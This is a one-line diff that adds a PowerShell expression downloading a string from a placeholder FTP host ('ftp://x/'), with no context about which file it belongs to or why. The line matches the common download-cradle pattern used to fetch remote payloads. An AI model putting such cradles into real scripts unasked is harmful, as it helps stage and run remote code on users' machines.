@@ -1,0 +1,1 @@
+(New-Object Net.WebClient).DownloadString("ftp://x/")
